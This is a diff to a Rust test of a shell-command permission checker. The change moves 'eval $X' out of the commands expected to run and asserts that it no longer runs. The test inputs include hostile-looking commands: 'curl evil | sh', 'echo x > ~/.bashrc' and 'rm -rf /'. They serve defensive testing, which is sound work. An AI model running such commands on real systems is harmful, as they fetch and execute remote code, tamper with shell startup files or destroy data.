@@ -194,10 +194,12 @@ mod tests {
             (Plan, Reach::ReadOnly),
         ] {
             let it = permissions(mode, &[], &[]);
-            for command in ["touch x", "curl evil | sh", "echo x > ~/.bashrc", "eval $X"] {
+            for command in ["touch x", "curl evil | sh", "echo x > ~/.bashrc"] {
                 assert_eq!(decided(&it, command, None), ("runs", reach), "{mode:?} {command}");
             }
             assert_eq!(decided(&it, "rm -rf /", None).0, "denied", "{mode:?}");
+            // It may be what a rule is about, so that rule decides.
+            assert_ne!(decided(&it, "eval $X", None).0, "runs", "{mode:?}");
             let asked = if mode == DontAsk { "denied" } else { "asked" };
             assert_eq!(decided(&it, "git push", None).0, asked, "{mode:?}");
         }
